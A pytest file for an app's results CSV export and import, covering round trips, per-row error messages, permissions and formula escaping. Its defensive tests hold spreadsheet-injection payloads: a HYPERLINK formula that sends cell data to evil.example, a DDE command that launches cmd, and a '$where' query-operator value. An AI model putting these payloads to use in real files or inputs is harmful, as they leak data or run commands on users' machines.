"""Results CSV: export, import preview with per-row errors, round trip, explicit partial import."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from models.experiment import Criterion, ExperimentCreate, ResultInput
from services.core.errors import InvalidInput
from services.experiments import experiments
from services.transfer import cells, results_csv
from tests.conftest import check_matrix


def make_experiment(world, city_id=None, title="Mobile payments, at the market"):
    created = experiments.create_experiment(
        world["admin"],
        city_id or world.city,
        ExperimentCreate(
            title=title,
            metric="vendors paying by mobile",
            unit="%",
            criterion=Criterion(kind="numeric", comparison=">=", target=40),
            start=dt.date(2026, 3, 1),
            end=dt.date(2026, 3, 31),
            status="running",
        ),
    )
    lag = world["admin"]  # records in any city
    for day, value, note in ((3, 12.5, "first, windy day"), (10, 30, ""), (17, 41.25, 'a "quote"')):
        experiments.record_result(
            lag, created.id, ResultInput(date=dt.date(2026, 3, day), value=value, note=note)
        )
    experiments.record_result(
        lag, created.id, ResultInput(date=dt.date(2026, 3, 18), observation="vendors asked why")
    )
    return experiments.get_experiment(world["admin"], created.id)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def write(rows: list[dict[str, str]]) -> str:
    return results_csv.to_csv(rows)


def test_export_has_the_documented_columns(world):
    experiment = make_experiment(world)
    text = results_csv.export_city(world["lag_member"], world.city)
    assert text.splitlines()[0] == ",".join(results_csv.COLUMNS)
    rows = rows_of(text)
    assert [r["value"] for r in rows] == ["12.5", "30", "41.25", ""]
    assert rows[0]["experiment_title"] == experiment.title
    assert rows[2]["note"] == 'a "quote"'
    assert {r["entry_id"] for r in rows} == {e.id for e in experiment.results}


def test_round_trip_export_then_import_changes_nothing(world):
    experiment = make_experiment(world)
    text = results_csv.export_city(world["lag_member"], world.city)
    preview = results_csv.preview(world["lag_member"], text.encode("utf-8"))
    assert preview.valid
    assert preview.counts() == {"new": 0, "changed": 0, "unchanged": 4, "invalid": 0}
    assert results_csv.apply(world["lag_member"], preview) == {"new": 0, "changed": 0}
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert after.revision == experiment.revision
    assert all(not e.history for e in after.results)


def test_import_adds_new_rows_and_corrects_changed_ones(world):
    experiment = make_experiment(world)
    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
    rows[1]["value"] = "31"
    rows.append({**rows[0], "entry_id": "", "date": "2026-03-24", "value": "44", "note": "new"})
    preview = results_csv.preview(world["lag_member"], write(rows))
    assert [r.state for r in preview.rows] == [
        "unchanged",
        "changed",
        "unchanged",
        "unchanged",
        "new",
    ]
    assert results_csv.apply(world["lag_member"], preview) == {"new": 1, "changed": 1}
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert [e.value for e in after.results] == [12.5, 31, 41.25, None, 44]
    assert after.results[1].history[0].value == 30  # the correction kept the previous value
    assert after.results[3].observation == "vendors asked why"


def test_a_file_with_one_bad_row_is_refused_with_that_rows_message(world):
    experiment = make_experiment(world)
    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
    rows.append({**rows[0], "entry_id": "", "value": "44"})
    rows.append({**rows[0], "entry_id": "", "value": "lots"})  # row 7 of the file
    preview = results_csv.preview(world["lag_member"], write(rows))
    assert not preview.valid
    assert preview.count("invalid") == 1
    assert results_csv.error_lines(preview) == ["Row 7, value: must be a number"]
    assert results_csv.error_lines(preview, "fr") == ["Ligne 7, value : doit être un nombre"]
    with pytest.raises(InvalidInput) as caught:
        results_csv.apply(world["lag_member"], preview)
    assert caught.value.key == "csv.blocked"
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert len(after.results) == 4  # nothing written


def test_importing_only_the_valid_rows_is_an_explicit_choice(world):
    experiment = make_experiment(world)
    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
    rows.append({**rows[0], "entry_id": "", "value": "44"})
    rows.append({**rows[0], "entry_id": "", "date": "31/02/2026", "value": "5"})
    preview = results_csv.preview(world["lag_member"], write(rows))
    assert results_csv.apply(world["lag_member"], preview, only_valid=True) == {
        "new": 1,
        "changed": 0,
    }
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert [e.value for e in after.results][-1] == 44


@pytest.mark.parametrize(
    ("change", "field", "key"),
    [
        ({"experiment_id": "nope"}, "experiment_id", "csv.error.experiment"),
        ({"entry_id": "missing"}, "entry_id", "csv.error.entry"),
        ({"date": ""}, "date", "validation.date_from_datetime_parsing"),
        ({"entry_id": "", "value": ""}, "value", "csv.error.value_required"),
        ({"note": "$where"}, "note", "validation.operator"),
    ],
)
def test_each_row_error_names_its_field(world, change, field, key):
    make_experiment(world)
    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))[:1]
    rows[0].update(change)
    preview = results_csv.preview(world["lag_member"], write(rows))
    (row,) = preview.rows
    assert row.row == 2
    assert (row.errors[0].field, row.errors[0].key) == (field, key)


def test_duplicate_entry_rows_and_wrong_header_are_refused(world):
    make_experiment(world)
    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
    preview = results_csv.preview(world["lag_member"], write([rows[0], rows[0]]))
    assert preview.rows[1].errors[0].key == "csv.error.duplicate"
    bad = results_csv.preview(world["lag_member"], "id,value\n1,2\n")
    assert bad.file_errors[0].key == "csv.error.header"
    assert results_csv.error_lines(bad)[0].startswith("Row 1, header:")
    assert results_csv.preview(world["lag_member"], b"\xff\xfe\x00").file_errors


def test_experiments_of_other_cities_are_refused_per_row(world):
    make_experiment(world, world.other_city)
    rows = rows_of(results_csv.export_city(world["admin"], world.other_city))
    preview = results_csv.preview(world["lag_member"], write(rows))
    assert {e.key for r in preview.rows for e in r.errors} == {"csv.error.experiment"}


def test_import_writes_follow_the_matrix(world):
    def attempt(user, city):
        experiment = make_experiment(world, city)
        row = {
            "experiment_id": experiment.id,
            "experiment_title": "",
            "date": "2026-03-20",
            "value": "50",
            "unit": "%",
            "note": "",
            "entry_id": "",
        }
        # The preview is built by someone allowed; the write checks the actor itself.
        preview = results_csv.preview(world["admin"], write([row]))
        results_csv.apply(user, preview)

    check_matrix(world, "experiment.result.record", attempt)


# --- spreadsheet formulas stay text, both ways ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_formulas_are_quoted_in_the_export_and_come_back_unchanged(world):
    experiment = make_experiment(world)
    lag = world["lag_member"]
    for note in [*FORMULAS, "-3 vendors left", "\tTabbed", "'=already quoted"]:
        experiments.record_result(
            lag, experiment.id, ResultInput(date=dt.date(2026, 3, 20), value=-3, note=note)
        )
    text = results_csv.export_city(lag, world.city)
    rows = rows_of(text)
    notes = [r["note"] for r in rows]
    # No cell a spreadsheet would run: each starts with the quote OWASP prescribes.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-3", value
    assert "'" + FORMULAS[0] in notes and "'@SUM(1+1)" in notes
    assert "''=already quoted" in notes
    assert [r["value"] for r in rows if r["note"] == "'@SUM(1+1)"] == ["-3"]  # still a number

    preview = results_csv.preview(lag, text.encode("utf-8"))
    assert preview.valid
    assert preview.counts()["unchanged"] == len(rows)  # every cell came back as it was
    by_note = {r.data.note: r.data for r in preview.rows}
    assert set(FORMULAS) <= set(by_note)
    assert "'=already quoted" in by_note and "\tTabbed" not in by_note  # stripped on input
    assert by_note["@SUM(1+1)"].value == -3


def test_the_cells_helper_follows_the_owasp_rule():

    for text in [*FORMULAS, "-x", "\t1", "\r2", "=1+1"]:
        assert cells.safe(text) == "'" + text
        assert cells.unquote(cells.safe(text)) == text
    for text in ["-3", "+1.5", "-2,5", "1e-3", "plain", "", "it's", "'quoted text"]:
        assert cells.safe(text) == text
        assert cells.unquote(text) == text
    assert cells.safe(-3) == "-3" and cells.safe(None) == ""
    text = cells.csv_text(["a", "b"], [{"a": "=1", "b": -3}])
    assert text == "a,b\n'=1,-3\n"


def test_no_new_results_for_an_experiment_that_is_done(world):
    experiment = make_experiment(world)
    lag = world["lag_member"]
    rows = rows_of(results_csv.export_city(lag, world.city))
    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "1", "note": "late"}
    fixed = {**rows[1], "value": "31"}
    experiments.set_status(world["admin"], experiment, "done")

    preview = results_csv.preview(lag, write([new_row, fixed]))
    assert [r.state for r in preview.rows] == ["invalid", "changed"]
    lines = results_csv.error_lines(preview, "en")
    assert lines == [
        "Row 2, experiment_id: new results can only be added to a running experiment "
        "(as on Record a result)"
    ]
    assert results_csv.error_lines(preview, "fr")[0].startswith("Ligne 2, experiment_id")
    with pytest.raises(InvalidInput):
        results_csv.apply(lag, preview)
    assert results_csv.apply(lag, preview, only_valid=True) == {"new": 0, "changed": 1}
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert len(after.results) == len(experiment.results)


def test_an_experiment_closed_after_the_preview_gets_no_new_row(world):
    experiment = make_experiment(world)
    lag = world["lag_member"]
    rows = rows_of(results_csv.export_city(lag, world.city))
    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "99", "note": "late"}
    preview = results_csv.preview(lag, write([new_row]))
    assert preview.valid
    experiments.set_status(world["admin"], experiment, "done")
    assert results_csv.apply(lag, preview) == {"new": 0, "changed": 0}
    assert preview.rows[0].state == "invalid"
    assert "running experiment" in results_csv.error_lines(preview)[0]
    after = experiments.get_experiment(world["admin"], experiment.id)
    assert [e.value for e in after.results if e.value == 99] == []
